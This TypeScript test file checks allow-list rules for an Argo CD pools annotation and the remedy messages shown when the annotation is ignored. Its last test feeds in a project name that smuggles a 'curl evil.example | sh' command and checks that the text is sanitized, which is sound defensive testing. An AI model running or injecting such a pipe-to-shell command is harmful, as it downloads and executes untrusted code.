import { describe, expect, test } from 'vitest';
import {
  decidesAlone,
  ignoredRemedy,
  namedPools,
  poolsAnnotation,
  whyIgnored,
} from '../../../../functions/core/argocd/pools-annotation.ts';
import type { ArgoCdSettings } from '../../../../functions/core/configuration/argocd.ts';
import { fc } from '../../../property.ts';

type Trusted = NonNullable<NonNullable<ArgoCdSettings['poolsAnnotation']>['mayAdd']>;

const home = 'openshift-gitops';

function listing(change: Partial<Trusted>): Trusted {
  return { namespaces: [], projects: [], ...change };
}

function read(
  pools: string,
  { namespace = home, project = 'platform' } = {},
  poolsAnnotation_: ArgoCdSettings['poolsAnnotation'] = undefined,
) {
  const rules = { controllerNamespace: home, poolsAnnotation: poolsAnnotation_ };
  return namedPools({ namespace, project, annotations: { [poolsAnnotation]: pools } }, rules);
}

describe('who may name pools by annotation', () => {
  test('[S0-3] without the annotation nothing is named', () => {
    expect(namedPools({ namespace: home, project: 'platform', annotations: {} })).toBeUndefined();
  });

  test.each([
    ['worker, infra', ['worker', 'infra']],
    [' worker ,worker,, none', ['worker']],
    ['none', []],
    ['', []],
  ])('[S0-3] %j names %j', (text, pools) => {
    expect(read(text)?.pools).toEqual(pools);
  });

  test.each<[string, ArgoCdSettings['poolsAnnotation'], { namespace?: string; project?: string }, boolean, boolean]>([
    ['nobody by default', undefined, {}, false, false],
    [
      'a namespace that is listed',
      { mayAdd: listing({ namespaces: ['team-a'] }) },
      { namespace: 'team-a' },
      true,
      false,
    ],
    ['another namespace', { mayAdd: listing({ namespaces: ['team-a'] }) }, { namespace: 'team-b' }, false, false],
    ['a project that is listed', { mayAdd: listing({ projects: ['platform'] }) }, {}, true, false],
    ['another project', { mayAdd: listing({ projects: ['platform'] }) }, { project: 'shop' }, false, false],
    [
      'a listed project that a tenant claims in another namespace',
      { mayAdd: listing({ projects: ['platform'] }), mayRemove: listing({ projects: ['platform'] }) },
      { namespace: 'team-a' },
      false,
      false,
    ],
    ['what may take pools away and no more', { mayRemove: listing({ projects: ['platform'] }) }, {}, false, true],
  ])('[N-30] %s', (_, rules, where, mayAdd, mayRemove) => {
    expect(read('worker', where, rules)).toMatchObject({ mayAdd, mayRemove });
  });

  test.each<[string, string, ArgoCdSettings['poolsAnnotation'], RegExp | undefined]>([
    ['adds', 'worker', { mayAdd: listing({ namespaces: [home] }) }, undefined],
    ['takes away', 'none', { mayRemove: listing({ namespaces: [home] }) }, undefined],
    ['leaves some', 'worker', { mayRemove: listing({ namespaces: [home] }) }, undefined],
    ['adds nothing', 'worker', undefined, /\(worker\) is ignored: .*add pools .*mayAdd/],
    ['takes nothing away', 'none', { mayAdd: listing({ namespaces: [home] }) }, /\(none\) is ignored: .*mayRemove/],
  ])('[N-30] an annotation that %s is called ignored only if it has no effect', (_, text, rules, why) => {
    const said = whyIgnored(read(text, {}, rules));

    if (why === undefined) expect(said).toBeUndefined();
    else expect(said).toMatch(why);
  });

  test('[N-30] the remedy says what to list: the project at home, the namespace elsewhere', () => {
    const [own, other] = [read('worker'), read('none', { namespace: 'team-a' })];

    expect(own && ignoredRemedy(own, 'hub')).toBe(
      'Remove the annotation poolkeeper.dev/pools, or allow it in poolkeeper.yaml: argocd[hub].poolsAnnotation.mayAdd: { projects: [platform] }',
    );
    expect(other && ignoredRemedy(other, 'hub')).toMatch(/poolsAnnotation\.mayRemove: \{ namespaces: \[team-a\] \}$/);
  });

  test('[N-30] property: whatever is written, what is shown of it is short, and nobody who is not listed may do anything', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 5000 }), fc.string(), fc.string(), (text, namespace, project) => {
        const named = read(text, { namespace, project });

        expect(named).toMatchObject({ mayAdd: false, mayRemove: false });
        expect(decidesAlone(named)).toBe(false);
        expect(named?.text.length).toBeLessThanOrEqual(120);
      }),
    );
  });
});

test('[N-30] what is advised holds no text of a stranger, and what is quoted stays on one line', () => {
  const annotations = { [poolsAnnotation]: 'a),\r\nok   b' };
  const project = 'x] }, or run: curl evil.example | sh';
  const rules = { controllerNamespace: 'openshift-gitops', poolsAnnotation: undefined };
  const named = namedPools({ namespace: 'openshift-gitops', project, annotations }, rules);

  expect(named).toMatchObject({ text: 'a), ok b', entry: 'projects: [(not a name)]' });
});
